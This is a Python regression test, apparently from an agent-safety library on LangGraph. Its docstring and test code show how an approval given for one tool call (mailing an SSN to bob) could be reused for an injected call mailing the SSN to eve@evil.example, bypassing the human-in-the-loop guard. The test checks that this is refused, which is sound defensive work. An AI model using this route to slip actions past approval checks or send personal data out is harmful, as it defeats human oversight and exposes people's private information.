"""An answer sent by id, with a state edit in the same `Command`, approves a call no person
was asked about, and the journal records it as that call's approval.

Scenario (LangGraph's own state editing): the privacy guard asks about c1, a mail of the SSN to bob
(interrupt `q`). The client resumes with `Command(resume={q.id: APPROVE_FOR_RECIPIENT},
update={"messages": [<the pending turn, rewritten: c9 (the SSN to eve) before c1>]})`, as a UI that
edits or regenerates the pending turn and sends the answer it holds in one go. LangGraph applies the
update and runs the guard node again in the same task, so its interrupt ids are the same: the node
handles c9 first, asks about it at the task's first place, and LangGraph hands it the answer sent to
`q`, which showed c1. vfa takes it: the SSN is mailed to eve, the journal says a person approved c9
"for this recipient" (so later mails to eve are covered), and the person is then asked about c1.

Expected (docs/kernel.md, "People in the loop": "an answer answers its own question only"; "Send an answer
by id under the id of the question it answers"; "Each answer a person gives is journaled against the
call it was asked about"): an answer given to the question about c1 is never taken as the answer to a
question about another call; c9 is asked about (or the resume refused with `AnswerError`, nothing
saved), and nothing reaches eve. Rewriting c1's own arguments under its id is denied already (an id
used for another call); a new call put before it is not.

Fixed: each question is journaled with the interrupt id it is asked at (`Questions._check_place`); a
question about to be asked, or asked again, where an answer waits that this task's journal shows was
given to another call's question (or a tool's own pause) stops the run with `AnswerError`, nothing
saved. `update_state` and running on asks the questions anew.
"""

from __future__ import annotations

from typing import Any

from _ssn_mail_question import BOB, SSN, ssn_mail_agent
from langchain_core.messages import AIMessage, HumanMessage
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.types import Command

from guards import APPROVE_FOR_RECIPIENT
from vfa import AnswerError, EffectJournal

EVE = "eve@evil.example"
CFG = {"configurable": {"thread_id": "t"}}


def _agent() -> tuple[Any, list[Any], EffectJournal]:
    return ssn_mail_agent(InMemorySaver())


def test_an_answer_to_one_call_is_not_taken_for_a_call_put_before_it() -> None:
    app, sent, journal = _agent()
    out = app.invoke({"messages": [HumanMessage("mail bob")]}, CFG)
    asked = out["__interrupt__"][0]
    assert asked.value["call_id"] == "c1" and asked.value["args"]["to"] == [BOB]
    turn = app.get_state(CFG).values["messages"][-1]
    c1 = turn.tool_calls[0]
    c9 = {**c1, "id": "c9", "args": {"to": [EVE], "body": f"ssn {SSN}"}}
    edit = {"messages": [AIMessage("", id=turn.id, tool_calls=[c9, c1])]}
    try:
        app.invoke(Command(resume={asked.id: APPROVE_FOR_RECIPIENT}, update=edit), CFG)
    except AnswerError:
        pass  # refused: the answer is the question's about c1
    assert not any(EVE in m["to"] for m in sent), "the person approved the mail to bob; the SSN went to eve"
    kinds = [e.kind for e in journal.entries("t", call_id="c9")]
    assert "approved" not in kinds, f"journaled as a person's approval of c9, which nobody was asked about: {kinds}"
